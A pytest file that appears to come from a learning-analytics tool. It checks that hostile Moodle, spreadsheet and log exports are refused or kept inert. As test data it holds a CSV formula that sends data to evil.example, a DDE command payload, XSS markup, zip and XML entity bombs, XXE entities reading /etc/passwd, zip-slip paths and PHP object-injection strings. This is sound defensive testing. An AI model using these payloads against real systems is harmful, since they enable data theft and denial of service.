"""Hostile exports through the public doors: refused with one clear error, or kept harmlessly and counted."""

from __future__ import annotations

import csv
import gzip
import io
import json
import os
import stat
import struct
import tempfile
import zipfile
from pathlib import Path

import pytest
from moodle_exports import LOG_EN, LOG_FR, export, text_of, view
from workbooks import package, workbook

from flipstats.build.init import init_study
from flipstats.build.one_file import read_one
from flipstats.build.sheets import read_sheet
from flipstats.errors import InputError
from flipstats.readers import Context, Reading, read

PARIS = Context(timezone="Europe/Paris")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
COMMAND = "=cmd|' /C calc'!A0"
SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>"
GRADES = ("First name", "Last name", "Email address", "Quiz: Start (Real)")
MARKS = tuple("=+-@\t\r")
LOGSTORE = ("eventname", "contextlevel", "contextinstanceid", "userid", "relateduserid", "other",
            "timecreated", "realuserid")  # fmt: skip
COMPLETION = "\\core\\event\\course_module_completion_updated"


def accounted(reading: Reading, records: int) -> Reading:
    """Check that every record of the file has one fate."""
    account = reading.account
    assert account.read == records
    assert account.read == account.kept + account.count("merged") + account.count("set_aside")
    return reading


def refused(file: Path, *words: str, context: Context = PARIS, form: str = "auto") -> str:
    """Check that a file is refused with one message that names it."""
    with pytest.raises(InputError) as raised:
        read(file, context, format=form)
    message = str(raised.value)
    assert file.name in message
    assert "\n" not in message
    for word in words:
        assert word in message
    return message


def cells(folder: Path) -> list[str]:
    return [
        cell
        for path in folder.glob("*.csv")
        for line in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline=""))
        for cell in line
    ]


class TestFormulas:
    def rows(self) -> list[list[str]]:
        return [
            view("18/03/24, 08:00:05", 7, FORMULA, 301, f"Page: {COMMAND}"),
            view("18/03/24, 08:00:01", 8, "+33 1", 302, "Page: @SUM(A1)"),
        ]

    def test_are_kept_as_text_and_written_so_that_no_spreadsheet_runs_them(self, tmp_path):
        file = export(tmp_path, "log.csv", [LOG_EN, *self.rows()])
        found = read_one(file, PARIS, out=tmp_path / "out")
        accounted(found.reading, 2)
        assert found.reading.tables["resources"]["title"].to_list() == [COMMAND, "@SUM(A1)"]
        written = cells(tmp_path / "out")
        assert "'" + COMMAND in written
        assert not [cell for cell in written if cell.startswith(MARKS)]

    def test_no_sheet_that_init_writes_holds_one_and_it_reads_back_as_it_was(self, tmp_path):
        (tmp_path / "raw").mkdir()
        export(tmp_path / "raw", "log.csv", [LOG_EN, *self.rows()])
        init_study(tmp_path / "raw", lang="en")
        (tmp_path / "raw" / "log.csv").unlink()  # the export itself stays as it was
        written = cells(tmp_path / "raw")
        assert not [cell for cell in written if cell.startswith(MARKS) and cell != "-"]
        titles = [row.text("title") for row in read_sheet(tmp_path / "raw", "resources")]
        assert set(titles) == {COMMAND, "@SUM(A1)"}

    def test_of_a_workbook_are_never_computed(self, tmp_path):
        stored = "<c><f>1+1</f><v>7</v></c>"
        never = '<c><f>WEBSERVICE("http://evil.example")</f></c>'
        names = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in ("A", "B", "a@x.org"))
        header = "".join(f'<c t="inlineStr"><is><t>{name}</t></is></c>' for name in GRADES)
        body = f"<row>{header}</row><row>{names}{stored}</row><row>{names.replace('a@', 'b@')}{never}</row>"
        reading = accounted(read(package(tmp_path / "grades.xlsx", body), PARIS), 2)
        assert reading.tables["attempts"]["raw_score"].to_list() == [7.0, None]


class TestMarkup:
    def test_in_titles_and_comments_is_text(self, tmp_path):
        asked = ("User full name", "Email address", "Date", f"(Q1) {SCRIPT}")
        said = ("Ann Lee", "ann@x.org", "Thursday, 21 March 2024, 12:05 PM", SCRIPT)
        reading = accounted(read(export(tmp_path, "feedback.csv", [asked, said]), PARIS), 1)
        assert reading.tables["feedback"]["comment"].to_list() == [SCRIPT]
        file = export(
            tmp_path, "log.csv", [LOG_EN, view("18/03/24, 08:00:05", 7, SCRIPT, 1, f"Page: {SCRIPT}")]
        )
        assert accounted(read(file, PARIS), 1).tables["resources"]["title"].to_list() == [SCRIPT]


class TestBombs:
    def test_a_workbook_that_swells(self, tmp_path):
        refused(
            package(tmp_path / "x.xlsx", " " * (40 << 20)), "unpacks to more than 200 MB, or to 200 times"
        )

    def test_a_workbook_whose_parts_are_one_part_many_times(self, tmp_path):
        """Entries of the directory that all point to the same compressed bytes, as in 42.zip's heirs."""
        file = package(tmp_path / "x.xlsx", " " * (180 << 10))
        with zipfile.ZipFile(file) as archive:
            infos = {e.filename: e for e in archive.infolist()}
        whole = bytearray(file.read_bytes())
        part = infos["xl/worksheets/sheet1.xml"]
        entry = _directory_entry(bytes(whole), part.filename)
        more = b"".join(
            entry.replace(b"sheet1.xml", f"shee{n:04}.xm".encode()[:9] + b"l") for n in range(3000)
        )
        end = whole.rfind(b"PK\x05\x06")
        fields = list(struct.unpack("<4s4H2LH", whole[end : end + 22]))
        fields[3] = fields[4] = fields[3] + 3000
        fields[5] += len(more)
        file.write_bytes(bytes(whole[:end]) + more + struct.pack("<4s4H2LH", *fields))
        refused(file)

    def test_a_csv_in_a_zip_and_in_gzip(self, tmp_path):
        zipped, packed = tmp_path / "log.zip", tmp_path / "log.csv.gz"
        with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("log.csv", b"Time," * (20 << 20))
        packed.write_bytes(gzip.compress(b"Time," * (20 << 20), 9))
        before = set(Path(tempfile.gettempdir()).glob("flipstats-*"))
        refused(zipped, "more than 200 times its size")
        refused(packed, "more than 200 times its size")
        assert set(Path(tempfile.gettempdir()).glob("flipstats-*")) <= before

    def test_a_zip_in_a_zip_is_not_opened_twice(self, tmp_path):
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w") as archive:
            archive.writestr("log.csv", text_of([LOG_EN]))
        with zipfile.ZipFile(tmp_path / "log.zip", "w") as archive:
            archive.writestr("log.zip", inner.getvalue())
        refused(tmp_path / "log.zip", "zip archive")

    @pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"])
    def test_entities_that_multiply(self, tmp_path, part):
        lol = "".join(f'<!ETY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10)).replace("ETY", "ENTITY")
        bomb = f'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY l0 "ha">{lol}]><l>&l9;</l>'
        refused(package(tmp_path / "x.xlsx", "", more={part: bomb}), "workbook that cannot be read")

    def test_entities_that_read_files_or_addresses(self, tmp_path):
        for target in ("file:///etc/passwd", "http://127.0.0.1:9/"):
            bomb = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{target}">]><sst><si><t>&a;</t></si></sst>'
            file = package(tmp_path / "x.xlsx", "", more={"xl/sharedStrings.xml": bomb})
            refused(file, "workbook that cannot be read")

    def test_a_cell_at_the_far_end_of_the_sheet(self, tmp_path):
        body = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        refused(package(tmp_path / "x.xlsx", body), "cells so far apart")


def _directory_entry(data: bytes, name: str) -> bytes:
    """Return the entry of a zip's central directory for a file."""
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        length, extra, comment = struct.unpack("<3H", data[at + 28 : at + 34])
        size = 46 + length + extra + comment
        if data[at + 46 : at + 46 + length] == name.encode():
            return data[at : at + size]
        at = data.find(b"PK\x01\x02", at + size)
    raise AssertionError(name)


class TestTruncated:
    def log(self, rows: int = 400) -> bytes:
        body = [view("18/03/24, 08:00:05", 7 + n % 9, f"Name {n % 9}", 301 + n % 5) for n in range(rows)]
        return text_of([LOG_EN, *body]).encode()

    @pytest.mark.parametrize("share", [0.3, 0.6, 0.99])
    def test_archives(self, tmp_path, share):
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("log.csv", self.log())
        workbook(tmp_path / "whole.xlsx", [GRADES, *[("A", "B", f"{n}@x.org", n) for n in range(300)]])
        made = {
            "log.csv.gz": gzip.compress(self.log()),
            "log.zip": zipped.getvalue(),
            "grades.xlsx": (tmp_path / "whole.xlsx").read_bytes(),
        }
        for name, data in made.items():
            (tmp_path / name).write_bytes(data[: int(len(data) * share)])
            refused(tmp_path / name)

    def test_a_log_cut_anywhere_loses_its_last_record_only(self, tmp_path):
        data = self.log(6)
        for length in range(len(data) - 300, len(data)):
            file = tmp_path / "log.csv"
            file.write_bytes(data[:length])
            whole = data[:length].count(b"\n") - 1
            reading = read(file, PARIS)
            assert reading.account.kept - whole in (0, 1)  # cut after its last cell a record is whole
            assert reading.account.read - whole in (0, 1)
            assert set(reading.account.reasons()) <= {"cut_record"}

    def test_json_cut_in_the_middle_names_the_file_and_lines_lose_the_last(self, tmp_path):
        events = [{"event_type": "play_video", "event_source": "browser", "event": "{}", "username": "a",
                   "context": {"user_id": 7}, "time": "2024-03-18T07:00:00+00:00"}] * 5  # fmt: skip
        lines = "".join(json.dumps(event) + "\n" for event in events)
        (tmp_path / "tracking.log").write_text(lines[:-40])
        reading = accounted(read(tmp_path / "tracking.log"), 5)
        assert reading.account.reasons()["cut_record"] == 1
        (tmp_path / "array.json").write_text(json.dumps(events)[:-40])
        refused(tmp_path / "array.json", "not a whole JSON document")


def test_a_header_whose_quotation_mark_is_never_closed_swallows_no_record(tmp_path):
    text = text_of([LOG_EN, *[view("18/03/24, 08:00:05", 7, "Ann Lee")] * 3])
    broken = (
        text.replace('"IP address"', '"IP address', 1)
        if '"IP address"' in text
        else text.replace("IP address", '"IP address', 1)
    )
    (tmp_path / "log.csv").write_text(broken, encoding="cp1252")
    refused(tmp_path / "log.csv", "never closed", form="moodle_log")


def test_a_header_alone_in_two_encodings_is_a_log_without_records(tmp_path):
    header = text_of([LOG_EN]).rstrip().encode()
    (tmp_path / "log.csv").write_bytes(header[:-12] + b"\xff\xff" + header[-12:])
    reading = accounted(read(tmp_path / "log.csv", PARIS, format="moodle_log"), 0)
    assert reading.tables == {}


class TestBytes:
    def test_mixed_encodings_cost_nobody_and_are_said(self, tmp_path):
        rows = [
            text_of([view("18/03/24, 08:00:05", 7, "Zoë", 301)]).encode(),
            text_of([view("18/03/24, 08:00:04", 8, "Amélie", 302, "Page: Fiche réflexe")]).encode("cp1252"),
        ]
        (tmp_path / "log.csv").write_bytes("\ufeff".encode() + text_of([LOG_FR]).encode() + b"".join(rows))
        reading = accounted(read(tmp_path / "log.csv", PARIS), 2)
        assert set(reading.people.filter(kind="name")["value"]) == {"Zoë", "Amélie"}
        assert "Fiche réflexe" in reading.tables["resources"]["title"].to_list()
        assert [str(w) for w in reading.warnings] == [
            "log.csv: 1 line is not UTF-8 like the rest; it was read as Windows-1252."
        ]

    def test_nul_bytes_are_taken_out_and_said(self, tmp_path):
        data = text_of([LOG_EN, *[view("18/03/24, 08:00:05", 7, "Ann Lee")] * 3]).encode()
        (tmp_path / "log.csv").write_bytes(data.replace(b"Ann", b"A\0nn").replace(b"18/", b"1\0008/"))
        reading = accounted(read(tmp_path / "log.csv", PARIS), 3)
        assert reading.people.filter(kind="name")["value"].to_list() == ["Ann Lee"]
        assert [str(w) for w in reading.warnings] == ["log.csv: 6 NUL characters were removed."]

    def test_a_disk_that_filled_up_leaves_a_tail_of_nuls(self, tmp_path):
        data = text_of([LOG_EN, *[view("18/03/24, 08:00:05", 7, "Ann Lee")] * 3]).encode()
        (tmp_path / "log.csv").write_bytes(data[:-30] + b"\0" * 30)
        reading = accounted(read(tmp_path / "log.csv", PARIS), 3)
        assert reading.account.kept == 2

    def test_what_is_neither_a_file_nor_a_folder_is_not_waited_for(self, tmp_path):
        os.mkfifo(tmp_path / "log.csv")
        refused(tmp_path / "log.csv", "cannot be read")


class TestPaths:
    @pytest.mark.parametrize(
        "name", ["../../evil.csv", "/tmp/evil.csv", "C:\\Windows\\evil.csv", "..\\evil.csv", "a/../../evil.csv",
                 "evil\0.csv", "e" * 300 + ".csv", "con.csv", "-rf.csv", "évil\n.csv"]
    )  # fmt: skip
    def test_names_in_a_zip_lead_nowhere(self, tmp_path, name):
        (tmp_path / "in").mkdir()
        with zipfile.ZipFile(tmp_path / "in" / "log.zip", "w") as archive:
            archive.writestr(name, text_of([LOG_EN, view("18/03/24, 08:00:05", 7, "Ann")]))
        outside = set(Path(tempfile.gettempdir()).iterdir())
        accounted(read(tmp_path / "in" / "log.zip", PARIS), 1)
        assert [p.name for p in tmp_path.rglob("*")] == ["in", "log.zip"]
        left = {p.name for p in set(Path(tempfile.gettempdir()).iterdir()) - outside}
        assert not [each for each in left if "evil" in each or each.startswith("flipstats-")]

    def test_a_link_in_a_zip_is_not_followed(self, tmp_path):
        link = zipfile.ZipInfo("log.csv")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        with zipfile.ZipFile(tmp_path / "log.zip", "w") as archive:
            archive.writestr(link, "/etc/passwd")
        message = refused(tmp_path / "log.zip") if False else _raised(tmp_path / "log.zip")
        assert "root:" not in message

    def test_parts_of_a_workbook_outside_it_are_left_out(self, tmp_path):
        more = {"xl/../../../evil.xml": "<x/>", "/xl/evil.xml": "<x/>", "xl\\..\\evil.xml": "<x/>"}
        file = package(tmp_path / "x.xlsx", "<row/>", more=more)
        refused(file)
        assert [p.name for p in tmp_path.rglob("*")] == ["x.xlsx"]


def _raised(file: Path) -> str:
    with pytest.raises(InputError) as raised:
        read(file, PARIS)
    return str(raised.value)


PHP = [
    'O:8:"stdClass":1:{s:15:"completionstate";i:1;}',
    'a:1:{s:15:"completionstate";O:8:"stdClass":0:{}}',
    'C:11:"ArrayObject":37:{x:i:0;a:1:{i:0;i:1;};m:a:0:{}}',
    'a:2:{s:15:"completionstate";i:1;s:1:"b";R:1;}',
    'a:99999999:{s:15:"completionstate";i:1;}',
    's:99999999:"completionstate";',
    "a:1:{" * 500 + "i:1;" + "}" * 500,
    'a:1:{s:15:"completionstate";i:' + "9" * 5000 + ";}",
    'a:1:{s:15:"completionstate";d:1e9999;}',
    'a:1:{s:15:"completionstate";s:4:"1";}',
    'a:1:{s:15:"completionstate";i:1;}trailing',
    "a:1:{s:15:'completionstate';i:1;}",
    '{"completionstate": ' + "9" * 5000 + "}",
    "[" * 100_000,
]


class TestPhp:
    def log(self, folder: Path, *others: str) -> Path:
        rows = [(COMPLETION, "70", "301", "7", "7", other, "1710745091", "NULL") for other in others]
        return export(folder, "logstore.csv", [LOGSTORE, *rows], encoding="utf-8")

    def test_good_values_are_read(self, tmp_path):
        file = self.log(tmp_path, 'a:1:{s:15:"completionstate";i:1;}', '{"completionstate":2}')
        reading = accounted(read(file), 2)
        assert reading.tables["events"]["verb"].to_list() == ["completed", "passed"]

    @pytest.mark.parametrize("other", PHP)
    def test_anything_else_is_a_completion_whose_state_is_unknown(self, tmp_path, other, monkeypatch):
        for name in ("eval", "exec", "compile", "__import__"):
            monkeypatch.setattr(f"flipstats.readers.php_serialized.{name}", None, raising=False)
        reading = accounted(read(self.log(tmp_path, other)), 1)
        assert reading.tables["events"]["verb"].to_list() == ["completion_updated"]
        assert reading.account.reasons("note") == {"unknown_state": 1}


class TestLargeCells:
    LARGE = "x" * (1 << 20)

    @pytest.mark.parametrize("careful", [False, True])
    def test_in_a_log(self, tmp_path, careful):
        rows = [
            view(f"18/03/24, 08:00:{n:02}", 7, "Ann", 300 + n, f"Page: {n}{self.LARGE}") for n in range(8)
        ]
        rows.append(view("18/03/24, 07:00:00", 7, "A\nnn" if careful else "Ann"))
        reading = accounted(read(export(tmp_path, "log.csv", [LOG_EN, *rows]), PARIS), 9)
        gone = reading.account.reasons()
        assert gone == ({"cell_too_large": 8} if careful else {})

    def test_in_a_gradebook_and_a_workbook(self, tmp_path):
        header, row = (*GRADES, "Quiz: Start (Feedback)"), ("Ann", "Lee", "a@x.org", "7.00", self.LARGE)
        rows = [header, row, ("Bo", "Chen", "b@x.org", "8.00", "")]
        reading = accounted(read(export(tmp_path, "grades.csv", rows), PARIS), 2)
        assert reading.account.reasons() == {"cell_too_large": 1}
        reading = accounted(read(workbook(tmp_path / "grades.xlsx", rows), PARIS), 2)
        assert reading.tables["attempts"]["raw_score"].to_list() == [7.0, 8.0]

    def test_in_a_json_line(self, tmp_path):
        said = {"actor": {"mbox": "mailto:a@x.org"}, "verb": {"id": "http://adlnet.gov/expapi/verbs/experienced"},
                "object": {"id": "https://x.org/a", "definition": {"name": {"en": self.LARGE}}},
                "timestamp": "2024-03-18T08:00:00Z"}  # fmt: skip
        (tmp_path / "x.ndjson").write_text(f"{json.dumps(said)}\n{json.dumps(said)}\n")
        accounted(read(tmp_path / "x.ndjson"), 2)


def test_found_by_fuzzing_an_entry_of_a_zip_without_a_name(tmp_path):
    file = tmp_path / "x.zip"
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr(
            "participants.csv", text_of([("First name", "Last name", "Email address"), ("A", "B", "a@x.org")])
        )
        entry = zipfile.ZipInfo("?")
        entry.filename = ""  # as the directory of a damaged or hostile zip has it
        archive.writestr(entry, "nothing")
    assert read(file, PARIS).account.kept == 1
